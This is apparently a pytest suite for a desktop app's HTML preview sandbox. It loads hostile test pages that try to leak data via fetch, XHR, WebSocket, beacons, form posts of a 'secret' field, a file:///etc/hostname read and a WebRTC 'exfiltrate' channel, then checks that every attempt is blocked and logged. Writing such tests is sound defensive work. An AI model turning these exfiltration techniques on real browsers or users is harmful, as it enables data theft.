"""The preview sandbox against a hostile page, with a real QtWebEngine and a real server on 127.0.0.1.

The server is a raw TCP listener that counts every connection it accepts: whatever protocol a page might use
(HTTP, WebSocket, TURN over TCP...), reaching it at all is a failure. The page must also leave a trace of each
attempt in the pane's strip, so a blocked app never fails silently; those "blocked" lines come from the engine's
side (CSP violation reports, the request interceptor, refused navigations), never from the page's console text.
"""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Iterator

import pytest

pytest.importorskip("PySide6.QtWebEngineWidgets", exc_type=ImportError)

from clover_desk.qt_compat import guard_pyside_bool_refcounts  # noqa: E402
from clover_desk.ui.preview import PreviewPane  # noqa: E402
from clover_desk.ui.preview_sandbox import register_schemes  # noqa: E402
from tests.net_helpers import LoopbackListener  # noqa: E402
from tests.qt_helpers import shown  # noqa: E402

guard_pyside_bool_refcounts()
register_schemes()  # before pytest-qt creates the QApplication (modules are imported at collection)

TIMEOUT_MS = 30_000
# After every attempt has been reported blocked, how long we keep listening for a late connection. This is the
# one deliberate wait: proving that something does *not* happen needs a window of time.
GRACE_MS = 700


@pytest.fixture(scope="module")
def server() -> Iterator[LoopbackListener]:
    srv = LoopbackListener()
    yield srv
    srv.close()


def test_the_listener_counts_what_reaches_it() -> None:
    """The tests below prove a page reached nothing by an empty listener: one that heard nothing would prove nothing."""
    listener = LoopbackListener()
    try:
        with socket.create_connection(("127.0.0.1", listener.port), timeout=5):
            pass
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"x", ("127.0.0.1", listener.port))
        deadline = time.monotonic() + 5
        while not (listener.accepted and listener.datagrams) and time.monotonic() < deadline:
            time.sleep(0.02)
        assert len(listener.accepted) == 1 and len(listener.datagrams) == 1
    finally:
        listener.close()


@pytest.fixture(scope="module")
def pane(qapp) -> Iterator[PreviewPane]:
    yield from shown(PreviewPane(reload_interval_ms=100), 800, 600)


def load(qtbot, pane: PreviewPane, html: str, document_id: str) -> None:
    """Show ``html`` and wait for *its* load: a late loadFinished of the shared pane's previous page must not count."""
    pane.strip.clear()
    host = pane.document_host(document_id)
    with qtbot.waitSignal(
        pane.loadFinished, timeout=TIMEOUT_MS, check_params_cb=lambda ok: pane.page.url().host() == host
    ) as blocker:
        pane.set_html(html, document_id)
        pane.flush()
    assert blocker.args == [True]
    qtbot.waitUntil(lambda: js(qtbot, pane, "document.readyState") == "complete", timeout=TIMEOUT_MS)


def js(qtbot, pane: PreviewPane, source: str, world: int = 0):
    with qtbot.waitCallback(timeout=TIMEOUT_MS) as callback:
        pane.page.runJavaScript(source, world, callback)
    return callback.args[0]


def blocked_texts(pane: PreviewPane) -> list[str]:
    return [e.text for e in pane.strip.entries if e.kind == "blocked"]


def hostile_page(port: int) -> str:
    base = f"http://127.0.0.1:{port}"
    return f"""<!DOCTYPE html><html><head>
<link rel="stylesheet" href="{base}/css">
<link rel="prefetch" href="{base}/prefetch">
<link rel="preload" as="script" href="{base}/preload">
<link rel="icon" href="{base}/favicon">
<script src="{base}/script"></script>
<style>@import url("{base}/import"); body {{ background-image: url("{base}/bg"); }}
@font-face {{ font-family: x; src: url("{base}/font"); }} p {{ font-family: x; }}</style>
</head><body><p>hostile</p>
<img src="{base}/img">
<iframe src="{base}/iframe"></iframe>
<object data="{base}/object"></object>
<video src="{base}/video" autoplay muted></video>
<form id="f" method="post" action="{base}/form"><input name="secret" value="s3cr3t"></form>
<script>
const base = {base!r};
const results = {{}};
function note(name, value) {{ results[name] = String(value); }}
const settle = (name, p) => p.then(v => note(name, 'resolved ' + v), e => note(name, 'rejected ' + e));
const tasks = [];
tasks.push(settle('fetch', fetch(base + '/fetch')));
tasks.push(settle('fetch-post', fetch(base + '/fetch-post', {{method: 'POST', mode: 'no-cors', body: 'x'}})));
tasks.push(new Promise(done => {{
  const x = new XMLHttpRequest(); x.open('GET', base + '/xhr');
  x.onerror = () => {{ note('xhr', 'error'); done(); }}; x.onload = () => {{ note('xhr', 'loaded'); done(); }};
  try {{ x.send(); }} catch (e) {{ note('xhr', 'threw ' + e); done(); }}
}}));
tasks.push(new Promise(done => {{
  try {{
    const ws = new WebSocket('ws://127.0.0.1:{port}/ws');
    ws.onerror = () => {{ note('ws', 'error'); done(); }}; ws.onopen = () => {{ note('ws', 'open'); done(); }};
  }} catch (e) {{ note('ws', 'threw ' + e); done(); }}
}}));
tasks.push(new Promise(done => {{
  try {{ const es = new EventSource(base + '/sse'); es.onerror = () => {{ note('sse', 'error'); es.close(); done(); }}; }}
  catch (e) {{ note('sse', 'threw ' + e); done(); }}
}}));
try {{ note('beacon', navigator.sendBeacon(base + '/beacon', 'x')); }} catch (e) {{ note('beacon', 'threw ' + e); }}
try {{ note('open', window.open(base + '/open')); }} catch (e) {{ note('open', 'threw ' + e); }}
try {{
  const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + base + "/worker').catch(() => 0)"])));
  note('worker', 'started');
}} catch (e) {{ note('worker', 'threw ' + e); }}
tasks.push(settle('file', fetch('file:///etc/hostname')));
try {{ document.getElementById('f').submit(); }} catch (e) {{ note('form', 'threw ' + e); }}
Promise.race([Promise.all(tasks), new Promise(r => setTimeout(r, 3000))]).then(() => {{
  window.attackResults = results;
  document.title = 'attempts-done';
}});
</script></body></html>"""


@pytest.mark.webengine
def test_hostile_page_makes_no_connection_and_every_attempt_is_listed(qtbot, pane, server) -> None:
    load(qtbot, pane, hostile_page(server.port), "hostile")
    qtbot.waitUntil(lambda: pane.page.title() == "attempts-done", timeout=TIMEOUT_MS)
    # Last, once the document has loaded (a navigation during the load would race it): leave the page.
    js(qtbot, pane, f"location.href = 'http://127.0.0.1:{server.port}/nav'; 0")
    qtbot.waitUntil(lambda: any("/nav" in t for t in blocked_texts(pane)), timeout=TIMEOUT_MS)
    qtbot.wait(GRACE_MS)

    assert server.accepted == [], f"the page reached the server: {server.accepted}"
    results = json.loads(js(qtbot, pane, "JSON.stringify(window.attackResults)"))
    assert results["fetch"].startswith("rejected")
    assert results["fetch-post"].startswith("rejected")
    assert results["xhr"] == "error"
    assert results["ws"] in ("error",) or results["ws"].startswith("threw")
    assert results["open"] == "null"
    assert results["file"].startswith("rejected")
    # Still on our document: the top-level navigation and the form post were refused.
    assert pane.page.url().scheme() == "clover-preview"

    texts = "\n".join(blocked_texts(pane))
    for marker in ("/fetch", "/fetch-post", "/xhr", "/ws", "/sse", "/beacon", "/img", "/bg", "/font", "/css", "/import",
                   "/script", "/preload", "/prefetch", "/video", "/form", "/open", "/nav"):
        assert f"127.0.0.1:{server.port}{marker}" in texts, f"{marker} attempt not listed as blocked:\n{texts}"
    # Chromium names only the origin of a refused frame or plugin, and only the scheme of a file: URL.
    assert f"blocked frame of http://127.0.0.1:{server.port}" in texts
    assert f"blocked plugin content from http://127.0.0.1:{server.port}" in texts
    assert "blocked connection to file" in texts
    # A dedicated worker's refusals are not reported to report-uri by the engine: only its console says so.
    assert any(f"127.0.0.1:{server.port}/worker" in e.text for e in pane.strip.entries if e.source == "console")
    # Blocked entries come from the engine's side only (CSP reports, the interceptor, the page's refusals).
    assert all(e.source == "blocked" for e in pane.strip.entries if e.kind == "blocked")
    qtbot.waitUntil(lambda: pane.strip.list.count() == len(pane.strip.entries) >= 10, timeout=TIMEOUT_MS)


@pytest.mark.webengine
def test_isolated_world_fetch_is_stopped_by_the_interceptor(qtbot, pane, server) -> None:
    # A script in another JavaScript world is not bound by the page's CSP: the request interceptor is the backstop.
    from PySide6.QtWebEngineCore import QWebEngineScript

    load(qtbot, pane, "<!DOCTYPE html><html><body>quiet page</body></html>", "isolated")
    world = QWebEngineScript.ScriptWorldId.ApplicationWorld.value
    js(qtbot, pane, f"fetch('http://127.0.0.1:{server.port}/isolated').then(() => document.title = 'ok',"
                    " () => document.title = 'failed'); 0", world)
    qtbot.waitUntil(lambda: pane.page.title() in ("ok", "failed"), timeout=TIMEOUT_MS)
    qtbot.wait(GRACE_MS)
    assert pane.page.title() == "failed"
    assert server.accepted == []
    assert any(f"127.0.0.1:{server.port}/isolated" in t for t in blocked_texts(pane))


@pytest.fixture
def unguarded_pane(qapp) -> Iterator[PreviewPane]:
    """A pane whose profile lacks the guard script: only the engine's own switches stand between a page and the
    network (what a frame that escaped the guard would have)."""
    widget = PreviewPane(reload_interval_ms=100)
    for script in widget.profile.scripts().find("clover-preview-guard"):
        widget.profile.scripts().remove(script)
    assert widget.profile.scripts().find("clover-preview-guard") == []
    yield from shown(widget, 400, 300)


@pytest.mark.webengine
def test_webrtc_engine_switches_alone_reach_nothing(qtbot, unguarded_pane, server) -> None:
    # WebRTC opens its own sockets (past CSP and the interceptor). With the guard gone the page has the real
    # constructor; the engine-wide switches must still stop STUN (UDP), TURN over UDP and TCP, host candidates
    # (and so mDNS announcements) and every name look-up (test_preview_hostile_dns.py watches the resolver).
    pane = unguarded_pane
    html = f"""<!DOCTYPE html><html><body><script>
    window.rtc = typeof RTCPeerConnection;
    window.candidates = [];
    const pc = new RTCPeerConnection({{iceServers: [{{urls: ['turn:127.0.0.1:{server.port}?transport=tcp',
                                             'turn:127.0.0.1:{server.port}?transport=udp',
                                             'turns:127.0.0.1:{server.port}?transport=tcp',
                                             'stun:127.0.0.1:{server.port}'], username: 'u', credential: 'c'}}]}});
    pc.onicecandidate = e => {{ if (e.candidate && e.candidate.candidate) window.candidates.push(e.candidate.candidate); }};
    pc.createDataChannel('exfiltrate');
    pc.onicegatheringstatechange = () => {{ if (pc.iceGatheringState === 'complete') document.title = 'gathered'; }};
    pc.createOffer().then(o => pc.setLocalDescription(o));
    </script></body></html>"""
    load(qtbot, pane, html, "webrtc-unguarded")
    assert js(qtbot, pane, "window.rtc") == "function"  # the layer under test really is alone
    qtbot.waitUntil(lambda: pane.page.title() == "gathered", timeout=TIMEOUT_MS)
    qtbot.wait(GRACE_MS)
    assert server.accepted == []
    assert server.datagrams == []
    assert js(qtbot, pane, "JSON.stringify(window.candidates)") == "[]"  # not even a host (mDNS) candidate


@pytest.mark.webengine
def test_permissions_are_denied(qtbot, pane) -> None:
    html = """<!DOCTYPE html><html><body><script>
    window.perm = {};
    const ask = [
      navigator.mediaDevices ? navigator.mediaDevices.getUserMedia({audio: true})
          .then(() => 'granted', e => 'denied ' + e.name) : Promise.resolve('absent'),
      new Promise(r => navigator.geolocation.getCurrentPosition(() => r('granted'), e => r('denied ' + e.code))),
      Notification.requestPermission().then(p => p),
      navigator.clipboard ? navigator.clipboard.readText().then(() => 'granted', e => 'denied ' + e.name)
                          : Promise.resolve('absent'),
    ];
    Promise.all(ask).then(v => { window.perm = v; document.title = 'asked'; });
    </script></body></html>"""
    load(qtbot, pane, html, "permissions")
    qtbot.waitUntil(lambda: pane.page.title() == "asked", timeout=TIMEOUT_MS)
    media, geo, notification, clipboard = json.loads(js(qtbot, pane, "JSON.stringify(window.perm)"))
    assert not media.startswith("granted")
    assert geo.startswith("denied")
    assert notification in ("denied", "default")
    assert not clipboard.startswith("granted")


@pytest.mark.webengine
def test_local_storage_does_not_leak_between_pages(qtbot, pane) -> None:
    load(qtbot, pane, "<html><body><script>localStorage.setItem('k', 'secret-of-a')</script></body></html>", "page-a")
    assert js(qtbot, pane, "localStorage.getItem('k')") == "secret-of-a"  # storage works at all
    load(qtbot, pane, "<html><body><script>window.seen = localStorage.getItem('k')</script></body></html>", "page-b")
    assert js(qtbot, pane, "String(window.seen)") == "null"
    assert js(qtbot, pane, "localStorage.length") == 0
    # The same document id keeps its origin (reloads of a streaming answer keep their state).
    load(qtbot, pane, "<html><body><script>window.seen = localStorage.getItem('k')</script></body></html>", "page-a")
    assert js(qtbot, pane, "window.seen") == "secret-of-a"


@pytest.mark.webengine
def test_link_click_navigation_and_downloads_are_refused(qtbot, pane, server) -> None:
    html = f"""<!DOCTYPE html><html><body>
    <a id="out" href="http://127.0.0.1:{server.port}/link">out</a>
    <a id="dl" download="x.txt" href="data:text/plain,hello">download</a>
    </body></html>"""
    load(qtbot, pane, html, "links")
    js(qtbot, pane, "document.getElementById('dl').click(); document.getElementById('out').click(); 0")
    qtbot.waitUntil(lambda: any("/link" in t for t in blocked_texts(pane)), timeout=TIMEOUT_MS)
    qtbot.waitUntil(lambda: any("download" in t for t in blocked_texts(pane)), timeout=TIMEOUT_MS)
    qtbot.wait(GRACE_MS)
    assert server.accepted == []
    assert pane.page.url().host() != "127.0.0.1"
